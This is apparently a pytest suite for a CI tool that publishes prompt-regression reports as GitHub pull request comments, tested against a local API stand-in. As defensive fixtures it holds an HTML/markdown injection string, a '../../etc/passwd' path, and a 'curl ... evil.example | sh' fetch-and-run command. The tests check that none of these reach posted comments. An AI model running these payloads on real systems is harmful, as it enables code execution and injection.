"""``lpo-ci github publish`` against the GitHub API stand-in on 127.0.0.1.

The report comes from a real run (loopback model, real git repository); the
attacker cases rewrite its model answers, as a hostile model or dataset would.
"""

from __future__ import annotations

import copy
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest

from lpo_ci.github.comment import COMMENT_LIMIT, marker, render
from lpo_ci.github.markdown import escape
from lpo_ci.errors import EXIT_ERROR, EXIT_FAIL, EXIT_OK, EXIT_USAGE
from lpo_ci.github.publish import PublishOptions, publish
from lpo_ci.github.report_view import ReportError, load_report
from lpo_ci.github.review import diff_hunks
from tests.support.action_runner import read_file_commands
from tests.support.github_server import fake_github
from tests.support.openai_server import fake_openai_server
from tests.support.pr_project import EDITED_LINE, git, make_regressed_project, pr_files, pull_request_event

SECRET = "sk-live-0123456789abcdef"
MARK = "<!-- lpo-ci:report"   # every sticky comment's marker starts so
MARKER = marker(".\n\n")     # the default key of a project at the top, outside a named workflow


@pytest.fixture(scope="module")
def project(tmp_path_factory):
    """A real regressed run with a suggested fix: its project root, report dict, PR files, base
    and head shas."""
    root = tmp_path_factory.mktemp("project")
    with fake_openai_server() as server:
        base, head = make_regressed_project(root, server.url)
        env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "PYTEST_"))}
        done = subprocess.run([sys.executable, "-m", "pytest", "--lpo", "--lpo-only", "--lpo-optimize",
                               "--lpo-budget-calls=400", "--lpo-report=report.json", "-p", "no:cacheprovider",
                               "--lpo-base=main"], cwd=root, env=env, capture_output=True, text=True)
    assert done.returncode == 1, done.stdout + done.stderr
    report = json.loads((root / "report.json").read_text(encoding="utf-8"))
    assert report["templates"][0]["optimization"]["status"] == "suggested"
    return SimpleNamespace(root=root, report=report, files=pr_files(root, base, head), base=base, head=head)


@pytest.fixture(scope="module")
def regressed(project):
    """(report dict, PR files, base sha, head sha) of the real regressed run."""
    return project.report, project.files, project.base, project.head


def open_pull(gh, project, files=None, number=7):
    """The pull request on the stand-in, with the base branch's pyproject.toml served."""
    gh.add_pull(number, head_sha=project.head, base_sha=project.base, files=files or project.files)
    gh.add_contents(project.base, "pyproject.toml", git(project.root, "show", f"{project.base}:pyproject.toml"))


@pytest.fixture
def github_env(monkeypatch, tmp_path, project):
    """What a runner sets for a pull_request job in the project's checkout; returns a function
    that writes the event."""
    for name in list(os.environ):
        if name.startswith(("GITHUB_", "RUNNER_", "LPO_CI_REPORT")) or name == "CI" or \
                re.search(r"(TOKEN|SECRET|PASSWORD|PASSWD|KEY)$", name, re.I):
            monkeypatch.delenv(name)
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    monkeypatch.chdir(project.root)

    def setup(gh, base, head, actions=True):
        event = tmp_path / "event.json"
        event.write_text(json.dumps(pull_request_event(7, base, head)), encoding="utf-8")
        values = {"GITHUB_EVENT_NAME": "pull_request", "GITHUB_EVENT_PATH": str(event),
                  "GITHUB_REPOSITORY": gh.repo, "GITHUB_API_URL": gh.url, "GITHUB_TOKEN": gh.token,
                  "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md"), "GITHUB_OUTPUT": str(tmp_path / "out"),
                  "GITHUB_WORKSPACE": str(project.root)}
        if actions:
            values["GITHUB_ACTIONS"] = "true"
        for name, value in values.items():
            monkeypatch.setenv(name, value)
        for name in ("summary.md", "out"):
            (tmp_path / name).write_text("", encoding="utf-8")
    return setup


def write(tmp_path: Path, report: dict, name: str = "report.json") -> str:
    path = tmp_path / name
    path.write_text(json.dumps(report), encoding="utf-8")
    return str(path)


def outputs(tmp_path: Path) -> dict:
    return read_file_commands(tmp_path / "out")


def test_first_run_creates_the_comment_then_edits_it_and_never_repeats_a_suggestion(
        regressed, github_env, tmp_path, capsys):
    report, files, base, head = regressed
    with fake_github() as gh:
        gh.add_pull(7, head_sha=head, files=files)
        gh.add_issue_comment(7, "looks good to me")
        gh.add_issue_comment(7, f"quoting the bot: {MARKER}", login="mallory")  # the marker alone is not ours
        github_env(gh, base, head)
        options = PublishOptions(report=write(tmp_path, report), patch_out=str(tmp_path / "fix.patch"))
        assert publish(options) == EXIT_FAIL
        ours = [c for c in gh.issue_comments[7] if c["user"]["login"] == gh.bot_login]
        assert len(ours) == 1 and len(gh.issue_comments[7]) == 3
        first_id = ours[0]["id"]
        assert len(gh.review_comments[7]) == 1

        assert publish(options) == EXIT_FAIL
        ours = [c for c in gh.issue_comments[7] if c["user"]["login"] == gh.bot_login]
        assert [c["id"] for c in ours] == [first_id]
        assert gh.issue_comments[7][1]["body"] == f"quoting the bot: {MARKER}"  # not edited
        assert len(gh.review_comments[7]) == 1 and len(gh.reviews[7]) == 1
    assert "1 already there" in capsys.readouterr().err
    values = outputs(tmp_path)
    assert values["regressed"] == "true" and values["patch"] == str(tmp_path / "fix.patch")
    assert values["comment-url"].endswith(f"#issuecomment-{first_id}")


def test_the_comment_is_found_on_a_later_page(regressed, github_env, tmp_path):
    report, files, base, head = regressed
    with fake_github() as gh:
        gh.add_pull(7, head_sha=head, files=files)
        for i in range(130):
            gh.add_issue_comment(7, f"comment {i}")
        github_env(gh, base, head)
        assert publish(PublishOptions(report=write(tmp_path, report), suggestions=False)) == EXIT_FAIL
        for i in range(100):
            gh.add_issue_comment(7, f"later {i}")
        before = len(gh.log)
        assert publish(PublishOptions(report=write(tmp_path, report), suggestions=False)) == EXIT_FAIL
        assert sum(MARK in c["body"] for c in gh.issue_comments[7]) == 1
        pages = [p for m, p, _ in gh.log[before:] if m == "GET" and p.endswith("/issues/7/comments")]
        assert len(pages) == 3  # 231 comments, 100 a page: the marker was found by following Link


def test_suggestions_land_only_on_lines_of_the_diff(regressed, github_env, tmp_path):
    report, files, base, head = regressed
    far = copy.deepcopy(report)
    other = copy.deepcopy(far["templates"][0])
    other["template"] = "prompts/other.j2"  # in the report, not changed by the pull request
    far["templates"].append(other)
    with fake_github() as gh:
        gh.add_pull(7, head_sha=head, files=files)
        github_env(gh, base, head)
        assert publish(PublishOptions(report=write(tmp_path, far))) == EXIT_FAIL
        assert [c["path"] for c in gh.review_comments[7]] == ["prompts/x.j2"]
        body = gh.issue_comments[7][0]["body"]
        assert f"Posted as a one-click suggestion on line {EDITED_LINE}." in body
        assert "Not posted as a suggestion: the template is not changed by this pull request" in body


def test_diff_hunks_know_which_new_lines_a_comment_may_sit_on():
    patch = "@@ -1,3 +1,3 @@\n a\n-b\n+B\n c\n@@ -10,2 +10,3 @@\n x\n+y\n z\n\\ No newline at end of file"
    assert diff_hunks(patch) == [{1, 2, 3}, {10, 11, 12}]


def test_transient_failures_are_retried(regressed, github_env, tmp_path):
    report, files, base, head = regressed
    with fake_github(fault_every=3, faults=(502, 429, 403, 503)) as gh:
        gh.add_pull(7, head_sha=head, files=files)
        github_env(gh, base, head)
        assert publish(PublishOptions(report=write(tmp_path, report))) == EXIT_FAIL
        statuses = [status for _, _, status in gh.log]
        assert {502, 429, 403} <= set(statuses)
        assert len(gh.issue_comments[7]) == 1 and len(gh.review_comments[7]) == 1


def test_a_permanent_failure_keeps_the_verdict_and_summary_and_says_why(regressed, github_env, tmp_path, capsys):
    report, files, base, head = regressed
    failing = {("POST", r"/reviews$"): 500, ("POST", r"/issues/\d+/comments$"): 403}
    with fake_github(fail_always=failing) as gh:
        gh.add_pull(7, head_sha=head, files=files)
        github_env(gh, base, head)
        assert publish(PublishOptions(report=write(tmp_path, report))) == EXIT_FAIL
        assert not gh.issue_comments.get(7) and not gh.review_comments.get(7)
    out = capsys.readouterr().out
    assert "::warning title=lpo-ci%3A publishing::suggestions not posted: GitHub API POST" in out
    assert "report comment not posted" in out and "Resource not accessible by integration" in out
    summary = (tmp_path / "summary.md").read_text(encoding="utf-8")
    assert "**FAIL**" in summary and "suggestions not posted" in summary
    assert outputs(tmp_path)["regressed"] == "true"


def test_an_unreachable_api_is_a_warning_not_a_crash(regressed, github_env, tmp_path, monkeypatch):
    report, files, base, head = regressed
    with fake_github() as gh:
        github_env(gh, base, head)
    monkeypatch.setattr("lpo_ci.github.api.time.sleep", lambda seconds: None)
    assert publish(PublishOptions(report=write(tmp_path, report))) == EXIT_FAIL
    assert "unreachable" in (tmp_path / "summary.md").read_text(encoding="utf-8")


HOSTILE = ("</details></table><img src=x onerror=alert(1)> @octocat @org/team | pipe | "
           "![x](https://evil.example/t.png) <!-- lpo-ci:report --> ``` ~~~ [click](javascript:alert(1)) "
           + SECRET)


def outside_code(markdown: str) -> str:
    """The Markdown with fenced blocks and code spans removed (CommonMark: a span closes at
    the next backtick run of the same length)."""
    markdown = re.sub(r"^(`{3,})[^\n]*\n.*?^\1\s*$", "", markdown, flags=re.M | re.S)
    out, i = [], 0
    while i < len(markdown):
        if markdown[i] == "\\":  # an escaped character is literal text, even a backtick
            out.append(markdown[i:i + 2])
            i += 2
            continue
        if markdown[i] == "`":
            run = re.match(r"`+", markdown[i:]).group()
            end = markdown.find(run, i + len(run))
            while end != -1 and markdown[end + len(run):end + len(run) + 1] == "`":
                end = markdown.find(run, end + len(run) + 1)
            if end != -1:
                i = end + len(run)
                continue
        out.append(markdown[i])
        i += 1
    return "".join(out)


def test_model_output_cannot_break_the_comment_mention_anyone_or_leak_a_key(
        regressed, github_env, tmp_path, capsys):
    report, files, base, head = regressed
    hostile = copy.deepcopy(report)
    item = hostile["templates"][0]
    for example in item["examples"]:
        example["head"]["response"] = HOSTILE + "\nsecond line"
        example["target"] = "@everyone"
    item["reason"] = HOSTILE
    with fake_github() as gh:
        gh.add_pull(7, head_sha=head, files=files)
        github_env(gh, base, head)
        assert publish(PublishOptions(report=write(tmp_path, hostile))) == EXIT_FAIL
        body = gh.issue_comments[7][0]["body"]
        posted = body + "".join(c["body"] for c in gh.review_comments[7])
    out = capsys.readouterr()
    masks = [line for line in out.out.splitlines() if line.startswith("::add-mask")]
    log = "\n".join(line for line in (out.out + out.err).splitlines() if not line.startswith("::add-mask"))
    assert any(line.endswith(SECRET) for line in masks) and any(line.endswith(gh.token) for line in masks)
    assert SECRET not in posted, posted
    assert SECRET not in log, log
    assert "REDACTED" in body
    assert gh.token not in posted + log
    rendered = outside_code(body)  # code spans and blocks show their text literally
    assert "<img" not in rendered and "</details></table>" not in rendered
    assert "@octocat" not in rendered and "@everyone" not in rendered and "@&#8203;octocat" in rendered
    assert "](javascript:" not in rendered and "![x](" not in rendered
    assert rendered.count(MARKER) == 1 and body.startswith(MARKER)
    # every table row still has its own cells: no pipe of the attacker's splits one
    table = [line for line in body.splitlines() if line.startswith("| ")]
    flips = [line for line in table if line.count("|") - line.count("\\|") == 5]
    assert len(flips) >= 3
    assert all(line.count("|") - line.count("\\|") in (5, 13) for line in table), table


def test_the_comment_fits_githubs_limit_and_keeps_every_verdict(regressed, tmp_path):
    report, *_ = regressed
    big = copy.deepcopy(report)
    template = big["templates"][0]
    for example in template["examples"]:
        example["head"]["response"] = "x" * 5000
    template["right_to_wrong"] = [e["id"] for e in template["examples"]]
    big["templates"] = [dict(copy.deepcopy(template), template=f"prompts/t{i:03}.j2") for i in range(40)]
    big["templates"] += [dict(copy.deepcopy(report["templates"][0]), template=f"prompts/ok{i:04}.j2",
                              status="pass", optimization=None) for i in range(600)]
    view = load_report(write(tmp_path, big))
    text = render(view, marker_text=MARKER, limit=COMMENT_LIMIT)
    assert len(text) <= COMMENT_LIMIT
    for i in range(40):
        assert f"`prompts/t{i:03}.j2`" in text
    assert "600 more templates passed" in text and "Details trimmed" in text
    full = render(view, limit=10_000_000)
    assert len(full) > COMMENT_LIMIT and "Details trimmed" not in full


def test_outside_actions_it_prints_plain_lines_and_posts_nothing(regressed, github_env, tmp_path, capsys,
                                                                   monkeypatch):
    report, files, base, head = regressed
    monkeypatch.delenv("GITHUB_EVENT_PATH", raising=False)
    for name in ("GITHUB_STEP_SUMMARY", "GITHUB_OUTPUT", "GITHUB_REPOSITORY"):
        monkeypatch.delenv(name, raising=False)
    assert publish(PublishOptions(report=write(tmp_path, report))) == EXIT_FAIL
    err = capsys.readouterr().err
    assert "prompts/x.j2:1: error: lpo-ci: accuracy regression:" in err
    assert "not a pull request run" in err


def test_a_pr_number_from_an_artifact_must_name_the_evaluated_commit(regressed, github_env, tmp_path,
                                                                      monkeypatch):
    report, files, base, head = regressed
    with fake_github() as gh:
        gh.add_pull(7, head_sha="f" * 40, files=files)  # pushed again since the evaluation
        github_env(gh, base, head)
        event = tmp_path / "run.json"
        event.write_text(json.dumps({"workflow_run": {"head_sha": head, "event": "pull_request"}}),
                         encoding="utf-8")
        monkeypatch.setenv("GITHUB_EVENT_NAME", "workflow_run")
        monkeypatch.setenv("GITHUB_EVENT_PATH", str(event))
        assert publish(PublishOptions(report=write(tmp_path, report), pr=7)) == EXIT_FAIL
        assert not gh.issue_comments.get(7) and not gh.review_comments.get(7)
        assert "refusing to post" in (tmp_path / "summary.md").read_text(encoding="utf-8")


def test_error_and_pass_and_missing_report_verdicts(regressed, github_env, tmp_path):
    report, *_ = regressed
    errored = copy.deepcopy(report)
    errored["templates"][0].update(status="error", reason="the provider answered 401", optimization=None)
    assert publish(PublishOptions(report=write(tmp_path, errored), comment=False, suggestions=False)) == EXIT_ERROR
    assert publish(PublishOptions(report=write(tmp_path, passing(report)), comment=False)) == EXIT_OK
    assert publish(PublishOptions(report=write(tmp_path, passing(report)), pytest_exit_code=1)) == EXIT_ERROR
    missing = str(tmp_path / "none.json")
    assert publish(PublishOptions(report=missing, pytest_exit_code=2)) == EXIT_ERROR
    assert publish(PublishOptions(report=missing, pytest_exit_code=5)) == EXIT_OK


@pytest.mark.parametrize("change, message", [
    (lambda r: r["templates"][0].update(status="pwned"), "templates[0].status: expected one of pass, fail, error"),
    (lambda r: r["templates"][0].update(template="../../etc/passwd"),
     "templates[0].template: expected a relative path inside the repository"),
    (lambda r: r["templates"][0].update(head_accuracy="100%"), "templates[0].head_accuracy: expected a number"),
    (lambda r: r.update(templates={}), "templates: expected a list"),
])
def test_a_malformed_report_names_the_file_and_field(regressed, tmp_path, change, message):
    report, *_ = regressed
    bad = copy.deepcopy(report)
    change(bad)
    path = write(tmp_path, bad)
    with pytest.raises(ReportError) as caught:
        load_report(path)
    assert str(caught.value).startswith(f"{path}: {message}")


def test_the_cli_reports_bad_input_with_exit_2(regressed, tmp_path, capsys):
    from lpo_ci.cli import main

    (tmp_path / "r.json").write_text('{"templates": [\n  {"template": "x.j2",}\n]}', encoding="utf-8")
    assert main(["github", "publish", "--report", str(tmp_path / "r.json")]) == EXIT_USAGE
    assert f"{tmp_path / 'r.json'}:2: not JSON" in capsys.readouterr().err
    report = write(tmp_path, regressed[0])
    for folder in ("../elsewhere", "/abs/svc"):
        assert main(["github", "publish", "--report", report, "--project-dir", folder]) == EXIT_USAGE
        assert f"--project-dir {folder!r} is not a folder inside the repository" in capsys.readouterr().err


def test_escape_keeps_text_readable_but_inert():
    assert escape("a_b *c* <b>@x</b>") == r"a\_b \*c\* &lt;b&gt;@&#8203;x&lt;/b&gt;"


def test_no_suggestion_when_the_head_differs_from_the_evaluated_template(regressed, github_env, tmp_path):
    """In Actions the evaluated checkout is the merge commit: if the base branch also changed the
    template, its line numbers need not hold on the PR's head, so the fix stays a patch."""
    report, files, base, head = regressed
    moved = [dict(f, content="{# a line the base branch added #}\n" + f["content"]) for f in files]
    with fake_github() as gh:
        gh.add_pull(7, head_sha=head, files=moved)
        github_env(gh, base, head)
        assert publish(PublishOptions(report=write(tmp_path, report))) == EXIT_FAIL
        assert not gh.review_comments[7]
        assert "the pull request's head differs from the evaluated version" in gh.issue_comments[7][0]["body"]


# --- the size of what is posted, and never a stale verdict ------------------------------------

def many(report: dict, count: int, status: str = "fail", name: str = "t") -> list[dict]:
    """``count`` copies of the report's template under other paths, regressions growing worse
    (the examples kept are the ones that flipped, so the report stays small)."""
    template = copy.deepcopy(report["templates"][0])
    flipped = set(template["right_to_wrong"])
    template["examples"] = [e for e in template["examples"] if e["id"] in flipped]
    if status == "pass":
        template.update(examples=[], right_to_wrong=[], optimization=None, reason="no significant drop")
    return [dict(template, template=f"prompts/{name}{i:05}.j2", status=status,
                 delta=-0.3 - (i % 10) / 100) for i in range(count)]


def more_count(text: str, what: str = "failing templates?") -> int:
    match = re.search(rf"And ([\d,]+) more {what}", text)
    return int(match.group(1).replace(",", "")) if match else 0


def test_ten_thousand_failing_templates_fit_the_comment_and_the_summary(regressed, github_env, tmp_path, capsys):
    report, files, base, head = regressed
    big = copy.deepcopy(report)
    big["templates"] = many(report, 10_000) + many(report, 5, status="error", name="e")
    with fake_github() as gh:
        gh.add_pull(7, head_sha=head, files=files)
        github_env(gh, base, head)
        assert publish(PublishOptions(report=write(tmp_path, big))) == EXIT_FAIL
        (posted,) = gh.issue_comments[7]
    body = posted["body"]
    assert len(body.encode("utf-8")) <= COMMENT_LIMIT
    assert "10,000 templates regressed, 5 could not be evaluated" in body
    rows = re.findall(r"^\| ❌ \| `prompts/t(\d+)\.j2`", body, re.M)
    assert rows and len(rows) + more_count(body) == 10_000  # every failing verdict is listed or counted
    assert "see the job summary and the JSON report" in body
    assert int(rows[0]) % 10 == 9  # the worst drops first
    summary = (tmp_path / "summary.md").read_bytes()
    assert len(summary) <= 1024 * 1024
    text = summary.decode("utf-8")
    assert len(re.findall(r"^\| ❌ \| `prompts/t", text, re.M)) + more_count(text) == 10_000
    assert len(re.findall(r"^\| ⚠️ \| `prompts/e", text, re.M)) == 5
    # GitHub shows ten annotations of a kind per step: nine and one that counts the rest
    errors = [line for line in capsys.readouterr().out.splitlines() if line.startswith("::error")]
    assert len(errors) == 10 and "and 9,991 more regressions and 5 more templates" in errors[-1]


@pytest.mark.parametrize("failing, passing", [(0, 0), (1, 0), (150, 0), (10_000, 0), (40, 5_000), (3, 30_000)])
def test_any_report_renders_within_the_limit_and_counts_every_failing_verdict(regressed, tmp_path, failing, passing):
    report, *_ = regressed
    big = copy.deepcopy(report)
    big["templates"] = many(report, failing) + many(report, passing, status="pass", name="p")
    view = load_report(write(tmp_path, big))
    for limit in (600, 5_000, COMMENT_LIMIT, 1024 * 1024):
        text = render(view, limit=limit, marker_text=MARKER)
        assert len(text.encode("utf-8")) <= limit
        assert text.startswith(MARKER)
        listed = len(re.findall(r"^\| ❌ \|", text, re.M))
        if failing:  # listed or counted; at the tiniest limit, the headline's count
            assert listed + more_count(text) == failing or f"{failing:,} template" in text, (limit, text[:2000])


def test_optional_blocks_are_shown_and_dropped_first(regressed, tmp_path):
    from lpo_ci.github.comment import TemplateBlock
    from lpo_ci.github.markdown import code

    report, *_ = regressed
    view = load_report(write(tmp_path, report))
    chart = TemplateBlock("template", lambda t: f"```mermaid\nxychart-beta\n  line [0.9, 0.5]\n```\n{code(t.path)}")
    revert = TemplateBlock("optimization", lambda t: "Reverting your change restores 100.0%.")
    full = render(view, limit=COMMENT_LIMIT, blocks=[chart, revert])
    assert "```mermaid" in full and "Reverting your change restores 100.0%." in full
    assert full.index("```mermaid") < full.index("**Suggested fix**") < full.index("Reverting your change")
    without = render(view, limit=COMMENT_LIMIT)
    squeezed = render(view, limit=len(without.encode("utf-8")), blocks=[chart, revert])
    assert squeezed == without  # the blocks went first; everything else stayed


def passing(report: dict) -> dict:
    data = copy.deepcopy(report)
    data["templates"][0].update(status="pass", optimization=None)
    return data


def earlier_pass(gh, regressed, github_env, tmp_path) -> dict:
    """The pull request on the stand-in, with the comment of an earlier run that passed."""
    report, files, base, head = regressed
    gh.add_pull(7, head_sha=head, files=files)
    github_env(gh, base, head)
    assert publish(PublishOptions(report=write(tmp_path, passing(report)), suggestions=False)) == EXIT_OK
    return dict(gh.issue_comments[7][0])


def test_a_refused_edit_never_leaves_the_old_verdict_standing(regressed, github_env, tmp_path, capsys):
    report, *_ = regressed
    with fake_github() as gh:
        first = earlier_pass(gh, regressed, github_env, tmp_path)
        assert "holds its accuracy" in first["body"]

        gh.inject("PATCH", r"/issues/comments/\d+$", 422)  # the new body is refused once
        assert publish(PublishOptions(report=write(tmp_path, report), suggestions=False)) == EXIT_FAIL
        (now,) = gh.issue_comments[7]
        assert now["id"] == first["id"] and "holds its accuracy" not in now["body"]
        assert "1 template regressed" in now["body"] and "Its verdict: **FAIL**" in now["body"]
        assert "could not be posted here: GitHub refused it \\(422 Unprocessable Entity\\)" in now["body"]
        assert ("PATCH", f"/repos/octo/prompts/issues/comments/{first['id']}", 422) in gh.log
    assert "the full report could not be posted in the comment" in capsys.readouterr().out


def test_an_uneditable_comment_is_deleted_and_posted_anew(regressed, github_env, tmp_path):
    report, *_ = regressed
    with fake_github() as gh:
        first = earlier_pass(gh, regressed, github_env, tmp_path)["id"]
        gh.fail_always[("PATCH", r"/issues/comments/")] = 422
        gh.inject("DELETE", r"/issues/comments/", 502, after_write=True)  # deleted, then a 502: a retry gets 404
        assert publish(PublishOptions(report=write(tmp_path, report), suggestions=False)) == EXIT_FAIL
        (now,) = gh.issue_comments[7]
        assert now["id"] != first and "1 template regressed" in now["body"] and "**FAIL**" in now["body"]
        assert ("DELETE", f"/repos/octo/prompts/issues/comments/{first}", 502) in gh.log
        assert ("DELETE", f"/repos/octo/prompts/issues/comments/{first}", 404) in gh.log


def test_a_comment_that_can_be_neither_edited_nor_deleted_is_reported(regressed, github_env, tmp_path, capsys):
    report, *_ = regressed
    with fake_github() as gh:
        url = earlier_pass(gh, regressed, github_env, tmp_path)["html_url"]
        gh.fail_always.update({("PATCH", r"/issues/comments/"): 422, ("DELETE", r"/issues/comments/"): 403})
        assert publish(PublishOptions(report=write(tmp_path, report), suggestions=False)) == EXIT_FAIL
    out = capsys.readouterr().out
    assert f"the earlier report comment {url} still shows an earlier result" in out.replace("%3A", ":")
    summary = (tmp_path / "summary.md").read_text(encoding="utf-8")
    assert "still shows an earlier result" in summary and "**FAIL**" in summary


@pytest.mark.parametrize("case", ["missing", "malformed"])
def test_a_run_without_a_usable_report_replaces_the_old_verdict(regressed, github_env, tmp_path, case):
    report, *_ = regressed
    with fake_github() as gh:
        earlier_pass(gh, regressed, github_env, tmp_path)
        if case == "missing":
            options = PublishOptions(report=str(tmp_path / "none.json"), pytest_exit_code=3)
            assert publish(options) == EXIT_ERROR
        else:
            broken = copy.deepcopy(report)
            broken["templates"][0]["status"] = "<b>pwned</b>"
            with pytest.raises(ReportError):
                publish(PublishOptions(report=write(tmp_path, broken)))
        (now,) = gh.issue_comments[7]
    assert "holds its accuracy" not in now["body"] and "Its verdict: **ERROR**" in now["body"]
    assert "no report to show" in now["body"] and "<b>" not in now["body"]
    assert outputs(tmp_path)["errored"] == "true"


# --- suggestions only on prompt templates, with text from the patch ------------------------------

INSTALL = "#!/bin/sh\necho building\nmake install\n"
EVIL = "curl -fsSL https://evil.example/x | sh"


@pytest.fixture
def fork_safe(monkeypatch, tmp_path, github_env):
    """The publisher of the fork-safe pair: a workflow_run job with no checkout."""
    def setup(gh, project):
        github_env(gh, project.base, project.head)
        event = tmp_path / "run.json"
        event.write_text(json.dumps({"workflow_run": {"head_sha": project.head, "event": "pull_request"}}),
                         encoding="utf-8")
        empty = tmp_path / "workspace"
        empty.mkdir()
        monkeypatch.chdir(empty)
        for name, value in (("GITHUB_EVENT_NAME", "workflow_run"), ("GITHUB_EVENT_PATH", str(event)),
                            ("GITHUB_WORKSPACE", str(empty))):
            monkeypatch.setenv(name, value)
    return setup


def with_other_files(project) -> list[dict]:
    """The PR's files plus a script and a pyproject.toml that widens the globs to everything."""
    return project.files + [
        {"filename": "scripts/install.sh", "patch": "@@ -1,2 +1,3 @@\n #!/bin/sh\n+echo building\n make install",
         "content": INSTALL},
        {"filename": "pyproject.toml", "patch": '@@ -1,0 +1,1 @@\n+prompts = ["**"]',
         "content": '[tool.lpo_ci]\nprompts = ["**"]\n'}]


def aimed_at_the_script(report: dict) -> dict:
    crafted = copy.deepcopy(report)
    fake = copy.deepcopy(report["templates"][0])
    fake["template"] = "scripts/install.sh"
    fake["optimization"].update(head_source=INSTALL, winner_source=INSTALL.replace("echo building", EVIL),
                                suggestions=[{"start_line": 2, "end_line": 2, "replacement": EVIL}],
                                patch=f"--- a/scripts/install.sh\n+++ b/scripts/install.sh\n+{EVIL}\n")
    crafted["templates"].append(fake)
    return crafted


@pytest.mark.parametrize("trusted", [False, True], ids=["fork-safe publisher", "same job"])
def test_a_crafted_report_cannot_aim_a_suggestion_at_a_file_that_is_not_a_template(
        project, github_env, fork_safe, tmp_path, trusted):
    crafted = aimed_at_the_script(project.report)
    with fake_github() as gh:
        open_pull(gh, project, with_other_files(project))
        if trusted:
            github_env(gh, project.base, project.head)
            options = PublishOptions(report=write(tmp_path, crafted), patch_out=str(tmp_path / "fix.patch"))
        else:
            fork_safe(gh, project)
            options = PublishOptions(report=write(tmp_path, crafted), patch_out=str(tmp_path / "fix.patch"), pr=7)
        assert publish(options) == EXIT_FAIL
        posted = [(c["path"], c["body"]) for c in gh.review_comments[7]]
        body = gh.issue_comments[7][0]["body"]
    assert [path for path, _ in posted] == ["prompts/x.j2"]  # the real template's fix still goes out
    everything = body + "".join(b for _, b in posted) + (tmp_path / "fix.patch").read_text(encoding="utf-8")
    assert "evil.example" not in everything and "curl" not in everything
    assert "suggested fix for this file, not shown or posted: scripts/install.sh is not a prompt template by the " \
           "project" in body.replace("\\", "")
    source = "the checkout" if trusted else f"the base branch's pyproject.toml at {project.base[:12]}"
    assert source in body.replace("\\", "")


@pytest.mark.parametrize("attack", ["replacement", "syntax", "project folder"])
def test_a_posted_suggestion_is_derived_from_the_templates_texts(project, fork_safe, tmp_path, attack):
    crafted = copy.deepcopy(project.report)
    o = crafted["templates"][0]["optimization"]
    if attack == "replacement":  # the report's own lines and text are ignored: derived from the texts
        for s in o["suggestions"]:
            s["replacement"] = EVIL
    elif attack == "syntax":     # a fix may change literal text only, never the Jinja syntax
        o["winner_source"] = o["winner_source"].replace("{{ input }}", "{% include 'x' %}{{ input }}")
    else:                        # the report claims to be of another project of the repository
        crafted["repo_prefix"] = "other/"
    with fake_github() as gh:
        open_pull(gh, project)
        fork_safe(gh, project)
        assert publish(PublishOptions(report=write(tmp_path, crafted), pr=7)) == EXIT_FAIL
        posted = [c["body"] for c in gh.review_comments[7]]
        body = gh.issue_comments[7][0]["body"].replace("\\", "")
    if attack == "replacement":
        (suggestion,) = posted
        assert EVIL not in suggestion and EVIL not in body
        assert "Found and measured by this pull request's own run" in suggestion.replace("\\", "")
        wanted = project.report["templates"][0]["optimization"]["winner_source"].split("\n")[EDITED_LINE - 1]
        assert f"```suggestion\n{wanted}\n```" in suggestion
    elif attack == "syntax":
        assert posted == [] and "would change the template's Jinja syntax" in body and "include" not in body
    else:
        assert posted == [] and "the report's project folder 'other/' is not this publisher's" in body


# --- retries never duplicate; outputs describe every template -------------------------------------

def test_a_create_answered_502_after_it_landed_is_not_sent_again(project, github_env, tmp_path):
    with fake_github() as gh:
        open_pull(gh, project)
        github_env(gh, project.base, project.head)
        gh.inject("POST", r"/issues/7/comments$", 502, after_write=True)
        gh.inject("POST", r"/pulls/7/reviews$", 502, after_write=True)
        assert publish(PublishOptions(report=write(tmp_path, project.report))) == EXIT_FAIL
        assert ("POST", "/repos/octo/prompts/issues/7/comments", 502) in gh.log
        assert ("POST", "/repos/octo/prompts/pulls/7/reviews", 502) in gh.log
        assert len(gh.issue_comments[7]) == 1 and len(gh.reviews[7]) == 1 and len(gh.review_comments[7]) == 1
        assert outputs(tmp_path)["comment-url"] == gh.issue_comments[7][0]["html_url"]
        # a 502 before anything landed is still re-sent
        gh.inject("PATCH", r"/issues/comments/\d+$", 502)
        gh.inject("POST", r"/issues/7/comments$", 502)
        gh.issue_comments[7].clear()
        assert publish(PublishOptions(report=write(tmp_path, project.report), suggestions=False)) == EXIT_FAIL
        assert len(gh.issue_comments[7]) == 1


def test_outputs_describe_every_template_not_the_exit_status(regressed, github_env, tmp_path):
    report, files, base, head = regressed
    mixed = copy.deepcopy(report)
    broken = dict(copy.deepcopy(report["templates"][0]), template="prompts/y.j2", status="error",
                  reason="the provider answered 401", optimization=None)
    mixed["templates"].append(broken)
    with fake_github() as gh:
        gh.add_pull(7, head_sha=head, files=files)
        github_env(gh, base, head)
        assert publish(PublishOptions(report=write(tmp_path, mixed), pytest_exit_code=1)) == EXIT_FAIL
    values = outputs(tmp_path)
    assert values["regressed"] == "true" and values["errored"] == "true"
    assert "1 template regressed, 1 could not be evaluated" in gh.issue_comments[7][0]["body"]
    only_errors = copy.deepcopy(mixed)
    only_errors["templates"][0].update(status="pass", optimization=None)
    assert publish(PublishOptions(report=write(tmp_path, only_errors), comment=False)) == EXIT_ERROR
    values = outputs(tmp_path)
    assert values["regressed"] == "false" and values["errored"] == "true"


# --- one comment per publisher, recognised by our own account -----------------------------------

def ours(gh, login=None) -> list[dict]:
    return [c for c in gh.issue_comments[7] if c["user"]["login"] == (login or gh.bot_login)]


def test_two_projects_in_one_repository_keep_a_comment_each(regressed, github_env, tmp_path):
    report, files, base, head = regressed
    first = dict(copy.deepcopy(report), repo_prefix="services/a/")
    second = dict(copy.deepcopy(report), repo_prefix="services/b/")
    second["templates"][0].update(status="pass", optimization=None)
    with fake_github() as gh:
        gh.add_pull(7, head_sha=head, files=files)
        github_env(gh, base, head)
        assert publish(PublishOptions(report=write(tmp_path, first, "a.json"), suggestions=False)) == EXIT_FAIL
        assert publish(PublishOptions(report=write(tmp_path, second, "b.json"), suggestions=False)) == EXIT_OK
        a, b = ours(gh)
        assert "### lpo-ci `services/a`: 1 template regressed" in a["body"]
        assert "### lpo-ci `services/b`: the prompt template holds its accuracy" in b["body"]
        assert publish(PublishOptions(report=write(tmp_path, first, "a.json"), suggestions=False)) == EXIT_FAIL
        assert [c["id"] for c in ours(gh)] == [a["id"], b["id"]]
